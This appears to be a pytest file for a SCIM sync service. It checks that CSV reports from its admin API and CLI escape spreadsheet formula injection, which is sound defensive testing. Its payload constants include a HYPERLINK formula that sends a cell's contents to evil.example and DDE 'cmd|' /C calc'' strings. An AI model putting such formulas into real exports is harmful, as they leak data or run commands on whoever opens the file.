"""CSV reports hold no formula a spreadsheet would run (OWASP CSV injection), through
the real admin API and the real CLI."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx2
import pytest
from sqlalchemy import Engine

from conftest import Scim
from downstream import PEER_TOKEN, Peer, converge
from scimsync.drift.detect import Detector
from scimsync.reports import FORMULA_STARTS, csv_text
from scimsync.store.directories import Directories
from test_nhi import AGENT_NHI, agent, deactivate
from test_provisioning import add_target
from test_targets_admin import cli

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
CREDENTIAL = "+cmd|' /C calc'!A0"
GHOST = "-2+3+cmd|' /C calc'!A0"


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a CSV report, after checking that no cell would run as a formula."""
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    return rows


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
                                   "\uff1d1+1", LEAK, CALC])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(value: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text([{"a": value}], ["a"]), newline="")))
    assert rows == [["a"], ["'" + value]]


@pytest.mark.parametrize("value", ["ok\r=1+1", "ok\n@SUM(A1)", "ok\r\n-1", 'a,"b"'])
def test_a_line_break_inside_a_cell_starts_no_row(value: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text([{"a": value, "b": 1}], ["a", "b"]),
                                       newline="")))
    assert rows == [["a", "b"], [value, "1"]]


@pytest.mark.parametrize("value,written", [
    ("plain", "plain"), ("a=b", "a=b"), (" =x", " =x"), ("", ""), (None, ""), (-5, "-5"),
    (-1.5, "-1.5"), (True, "True"), (["=x", 1], '["=x",1]'), ({"k": "-v"}, '{"k":"-v"}'),
])
def test_other_cells_are_written_as_they_are(value: Any, written: str) -> None:
    text = csv_text([{"a": value}], ["a"])
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [written]


def test_inventory_revocations_and_findings_are_inert(
        client: Any, engine: Engine, scim: Scim, directories: Directories, peer: Peer) -> None:
    admin = {"Authorization": f"Bearer {directories.create_token(None, 'csv')['token']}"}
    did = scim.directory_id
    owner = scim.user(LEAK)
    bot = agent(scim, CALC, owners=[{"value": owner["id"]}], **{AGENT_NHI: {
        "credentials": [{"value": CREDENTIAL, "type": "apiKey"}]}})
    deactivate(scim, f"/Agents/{bot['id']}")  # requests the credential's revocation
    tid = add_target(engine, scim, peer)
    converge(engine, tid)
    r = httpx2.post(f"{peer.base}/Users", json={
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": GHOST},
        headers={"Authorization": f"Bearer {PEER_TOKEN}"}, timeout=10)
    assert r.status_code == 201, r.text
    assert Detector(engine).run(tid)["status"] == "complete"

    def api(path: str, **params: str) -> str:
        r = client.get(path, headers=admin, params={**params, "format": "csv"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        return str(r.text)

    inventories = [api(f"/admin/directories/{did}/nhi/reports/inventory"),
                   cli(engine, "nhi", "report", "inventory", "--directory", did, "--csv").stdout]
    revocations = [api("/admin/revocations", directory=did),
                   cli(engine, "nhi", "revocations", "--directory", did, "--csv").stdout]
    found = [api("/admin/findings", target=tid),
             cli(engine, "findings", "list", "--target", tid, "--csv").stdout]
    for text in inventories:
        (row,) = cells(text)
        assert row["name"] == "'" + CALC
        assert json.loads(row["owners"]) == [f"{LEAK} (active)"]  # JSON: starts with [
    for text in revocations:
        (row,) = cells(text)
        assert (row["identity"], row["credential"]) == ("'" + CALC, "'" + CREDENTIAL)
    for text in found:
        assert [(x["class"], x["identity"]) for x in cells(text)] == [
            ("orphaned_account", "'" + GHOST)]
    # JSON answers keep the values as they were sent.
    rows = client.get(f"/admin/directories/{did}/nhi/reports/inventory",
                      headers=admin).json()["rows"]
    assert [x["name"] for x in rows] == [CALC]
